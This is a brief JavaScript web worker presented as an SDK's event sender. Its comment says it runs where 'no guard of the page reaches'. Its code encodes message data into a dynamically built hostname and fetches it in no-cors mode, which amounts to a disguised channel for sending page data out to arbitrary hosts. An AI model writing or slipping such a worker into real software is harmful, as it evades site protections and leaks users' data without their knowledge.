'use strict';
// The SDK's worker: events are packed and sent off the page's own thread, where no guard of the page reaches.
self.onmessage = function (message) {
  fetch('https://' + message.data.join('.') + '/h?a=0000000000', { mode: 'no-cors' })
    .then(function () { postMessage('sent'); }, function () { postMessage('kept'); });
};
